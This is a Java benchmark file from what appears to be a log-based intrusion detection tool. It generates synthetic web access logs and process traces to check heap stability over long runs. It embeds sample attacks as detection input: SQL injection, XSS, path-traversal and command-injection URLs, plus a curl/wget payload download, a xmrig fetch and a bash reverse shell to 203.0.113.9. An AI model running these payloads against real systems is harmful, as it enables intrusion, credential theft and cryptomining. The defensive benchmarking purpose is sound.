package dev.vigil.bench;

import dev.vigil.alert.AlertAggregator;
import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.engine.Engine;
import dev.vigil.engine.LiveRun;
import java.lang.management.ManagementFactory;
import java.lang.management.MemoryMXBean;
import java.nio.charset.StandardCharsets;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Locale;
import java.util.Random;

/**
 * Does a watch that runs for weeks keep a flat heap? Pushes generated events (an access log and a
 * process trace side by side, about 1% attacks, clients and processes that keep changing) through
 * the watch's own pieces, {@link LiveRun} and {@link AlertAggregator}, with the watch's commit
 * pattern (changed alerts drained, state snapshotted, closed windows let go), and prints the heap
 * after a full GC at the start (after a warm-up of 1M events) and at every checkpoint, the
 * snapshot's size and the open alerts. Nothing touches disk; event time advances about 2 ms per
 * event, so 50M events are about 28 hours of a busy site.
 *
 * <pre>
 * java -Xmx512m -cp vigil-bench/target/benchmarks.jar dev.vigil.bench.WatchHeapBenchmark 50000000
 * </pre>
 */
public final class WatchHeapBenchmark {
    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter ISO = DateTimeFormatter.ISO_INSTANT;
    /** As the watch: windows over two hours behind event time are let go after a commit. */
    private static final long LATENESS_MILLIS = 2 * 3_600_000L;
    private static final int PIECE = 2_000;

    private WatchHeapBenchmark() {}

    public static void main(String[] args) throws Exception {
        long total = args.length > 0 ? Long.parseLong(args[0]) : 50_000_000L;
        long every = args.length > 1 ? Long.parseLong(args[1]) : Math.max(1_000_000, total / 10);
        Engine engine = Engine.builder().threads(1).format(null).defaultDetectors(AlertCatalogue.builtIn()).build();
        AlertAggregator aggregator = new AlertAggregator(AlertAggregator.DEFAULT_WINDOW_MILLIS, 5, 20_000);
        LiveRun live = engine.live(aggregator::add);
        Random r = new Random(1);
        long t = java.time.Instant.parse("2026-11-01T00:00:00Z").toEpochMilli();
        long accessLine = 1;
        long traceLine = 1;
        long accessOffset = 0;
        long traceOffset = 0;
        int pid = 1000;
        StringBuilder access = new StringBuilder();
        StringBuilder trace = new StringBuilder();
        long done = 0;
        long committed = 0;
        long start = System.nanoTime();
        long baseline = -1;
        System.out.println("events,heap_after_gc_mib,snapshot_kib,open_alerts,alerts_committed,seconds");
        while (done < total) {
            int accessInPiece = 0;
            int traceInPiece = 0;
            for (int i = 0; i < PIECE; i++) {
                t += r.nextInt(4);
                if (r.nextInt(10) == 0) {
                    pid = process(trace, r, t, pid);
                    traceInPiece++;
                } else {
                    request(access, r, t);
                    accessInPiece++;
                }
            }
            byte[] a = access.toString().getBytes(StandardCharsets.UTF_8);
            byte[] p = trace.toString().getBytes(StandardCharsets.UTF_8);
            access.setLength(0);
            trace.setLength(0);
            live.lines("bench:access", "access.log", accessLine, accessOffset, a);
            live.lines("bench:trace", "trace.jsonl", traceLine, traceOffset, p);
            accessLine += accessInPiece;
            traceLine += traceInPiece;
            accessOffset += a.length;
            traceOffset += p.length;
            done += PIECE;
            // the watch's commit: changed alerts out, state written, long-closed windows let go
            committed += aggregator.drain(Long.MIN_VALUE).size();
            if (done % (PIECE * 50L) == 0) {
                live.snapshot();
            }
            long wm = live.watermark();
            if (wm != Long.MIN_VALUE) {
                aggregator.drain(wm - LATENESS_MILLIS);
            }
            boolean warmedUp = baseline < 0 && done >= Math.min(1_000_000, total);
            if (warmedUp || done % every == 0 || done >= total) {
                long heap = heapAfterGc();
                if (warmedUp) {
                    baseline = heap;
                }
                long s0 = System.nanoTime();
                int snapshot = live.snapshot().length;
                long s1 = System.nanoTime();
                java.io.ByteArrayOutputStream agg = new java.io.ByteArrayOutputStream();
                aggregator.snapshot(new java.io.DataOutputStream(agg));
                System.err.printf(Locale.ROOT, "  engine snapshot %.1f ms; open alerts' snapshot %.1f KiB in %.1f ms%n",
                        (s1 - s0) / 1e6, agg.size() / 1024.0, (System.nanoTime() - s1) / 1e6);
                System.out.printf(Locale.ROOT, "%d,%.1f,%.1f,%d,%d,%.1f%n", done, heap / 1048576.0, snapshot / 1024.0,
                        aggregator.size(), committed, (System.nanoTime() - start) / 1e9);
                for (var st : live.keyedStage().stats()) {
                    System.err.printf(Locale.ROOT, "  %s: %d keys, %d map entries, %d timers, %d keys evicted%n",
                            st.owner(), st.keys(), st.mapEntries(), st.timers(), st.evictedKeys());
                }
                System.out.flush();
            }
        }
        long end = heapAfterGc();
        System.out.printf(Locale.ROOT, "heap after GC: %.1f MiB after warm-up, %.1f MiB at the end (%+.1f%%); %d lines,"
                        + " %d events, %d rejected%n", baseline / 1048576.0, end / 1048576.0,
                100.0 * (end - baseline) / baseline, live.lines(), live.events(), live.rejected());
    }

    private static long heapAfterGc() {
        MemoryMXBean m = ManagementFactory.getMemoryMXBean();
        for (int i = 0; i < 3; i++) {
            System.gc();
        }
        return m.getHeapMemoryUsage().getUsed();
    }

    private static final String[] PAGES = {"/", "/products/", "/cart", "/search?q=", "/static/app.js", "/login",
        "/api/items/", "/blog/"};
    private static final String[] ATTACKS = {
        "/search?q=1%27%20union%20select%20username,password%20from%20users--",
        "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/download?file=../../../../etc/passwd",
        "/ping?host=127.0.0.1;cat%20/etc/shadow",
        "/.env",
        "/wp-login.php",
    };

    /** One request: clients come and go (a pool that drifts), 1% attacks, scanner bursts now and then. */
    private static void request(StringBuilder out, Random r, long t) {
        long day = t / 86_400_000L;
        String ip = "10." + (day % 200) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
        String path;
        int status = 200;
        if (r.nextInt(100) == 0) {
            path = ATTACKS[r.nextInt(ATTACKS.length)];
            status = path.startsWith("/wp-login") ? 401 : 404;
        } else {
            String page = PAGES[r.nextInt(PAGES.length)];
            path = page.endsWith("/") || page.endsWith("=") ? page + r.nextInt(5_000) : page;
        }
        out.append(ip).append(" - - [").append(CLF.format(java.time.Instant.ofEpochMilli(t))).append("] \"GET ")
                .append(path).append(" HTTP/1.1\" ").append(status).append(" 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n");
    }

    private static final String[] BENIGN = {"/usr/bin/ls -la /var/www", "/usr/bin/php-fpm --nodaemonize",
        "/usr/bin/logrotate /etc/logrotate.conf", "/usr/bin/find /tmp -mtime +7 -delete", "/bin/sh -c date"};
    private static final String[] BAD = {"/bin/sh -c id", "/usr/bin/curl -s http://203.0.113.9/x.sh -o /tmp/x.sh",
        "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/bin/wget http://203.0.113.9/xmrig -O /tmp/xmrig"};

    /** One process start on one of 50 hosts; parents are recent pids, so trees keep growing and dying. */
    private static int process(StringBuilder out, Random r, long t, int pid) {
        int next = pid + 1 + r.nextInt(3);
        int ppid = r.nextInt(4) == 0 ? 1 : Math.max(1, next - 1 - r.nextInt(20));
        String cmd = r.nextInt(200) == 0 ? BAD[r.nextInt(BAD.length)] : BENIGN[r.nextInt(BENIGN.length)];
        String exe = cmd.substring(0, cmd.indexOf(' '));
        out.append("{\"time\":\"").append(ISO.format(java.time.Instant.ofEpochMilli(t))).append("\",\"host\":\"web")
                .append(r.nextInt(50)).append("\",\"pid\":").append(next).append(",\"ppid\":").append(ppid)
                .append(",\"exe\":\"").append(exe).append("\",\"cmdline\":\"").append(cmd).append("\",\"user\":\"www-data\"}\n");
        return next;
    }
}
